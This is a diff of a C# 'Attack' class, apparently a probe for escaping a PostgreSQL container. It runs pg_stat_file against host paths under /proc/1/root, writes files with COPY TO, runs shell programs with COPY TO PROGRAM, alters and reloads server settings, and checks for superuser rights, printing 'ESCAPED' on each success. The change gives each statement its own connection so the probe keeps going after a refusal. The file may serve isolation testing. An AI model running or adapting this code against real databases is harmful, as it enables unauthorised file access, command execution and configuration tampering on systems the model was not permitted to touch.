@@ -13,42 +13,36 @@ internal static class Attack
     {
         var connectionString = Environment.GetEnvironmentVariable("ConnectionStrings__Database");
         if (connectionString is null) return;
-        try
+        connectionString += ";Pooling=false";
+        foreach (var path in Paths)
         {
-            using var connection = new NpgsqlConnection(connectionString + ";Pooling=false");
-            connection.Open();
-            foreach (var path in Paths)
-            {
-                Ask(connection, $"SELECT 'sees ' || '{path}' FROM pg_stat_file('{path}', true) WHERE size IS NOT NULL");
-                Ask(connection, $"SELECT 'sees ' || '/proc/1/root{path}' FROM pg_stat_file('/proc/1/root{path}', true) WHERE size IS NOT NULL");
-                Ask(connection, $"COPY (SELECT 'attack') TO '{path}/attack'", "writes into " + path);
-                Ask(connection, $"COPY (SELECT 'attack') TO PROGRAM 'cat > {path}/attack'", "runs a program that writes into " + path);
-            }
+            Ask(connectionString, $"SELECT 'sees ' || '{path}' FROM pg_stat_file('{path}', true) WHERE size IS NOT NULL");
+            Ask(connectionString, $"SELECT 'sees ' || '/proc/1/root{path}' FROM pg_stat_file('/proc/1/root{path}', true) WHERE size IS NOT NULL");
+            Ask(connectionString, $"COPY (SELECT 'attack') TO '{path}/attack'", "writes into " + path);
+            Ask(connectionString, $"COPY (SELECT 'attack') TO PROGRAM 'cat > {path}/attack'", "runs a program that writes into " + path);
+        }
 
-            Ask(connection, "COPY (SELECT 1) TO PROGRAM 'true'", "runs programs");
-            Ask(connection, "ALTER SYSTEM SET enable_indexscan = off");
-            Ask(connection, "SELECT NULL FROM pg_reload_conf()");
-            using var rights = new NpgsqlCommand("SELECT current_setting('is_superuser')", connection);
-            Console.WriteLine($"TRIED {Paths.Length} paths; superuser: {rights.ExecuteScalar()}");
-        }
-        catch (NpgsqlException ended)
-        {
-            Console.WriteLine($"ended: {ended.Message}");
-        }
+        Ask(connectionString, "COPY (SELECT 1) TO PROGRAM 'true'", "runs programs");
+        Ask(connectionString, "ALTER SYSTEM SET enable_indexscan = off");
+        Ask(connectionString, "SELECT NULL FROM pg_reload_conf()");
+        Console.WriteLine($"TRIED {Paths.Length} paths; {Ask(connectionString, "SELECT 1 FROM pg_roles WHERE rolname = current_user AND rolsuper")}");
     }
 
-    // Says so when it got an answer; with a sentence of its own where the statement returns nothing.
-    private static void Ask(NpgsqlConnection connection, string sql, string? sentence = null)
+    // Says so when it got an answer; with a sentence of its own where the statement returns nothing. Each over a connection of its own: some end it.
+    private static string Ask(string connectionString, string sql, string? sentence = null)
     {
         try
         {
+            using var connection = new NpgsqlConnection(connectionString);
+            connection.Open();
             using var command = new NpgsqlCommand(sql, connection);
             var answer = command.ExecuteScalar();
             if (sentence is not null || answer is string) Console.WriteLine($"ESCAPED {sentence ?? answer}");
+            return answer is null ? "no superuser" : "a superuser";
         }
-        catch (PostgresException refused)
+        catch (NpgsqlException refused)
         {
-            GC.KeepAlive(refused);
+            return refused.Message;
         }
     }
 }
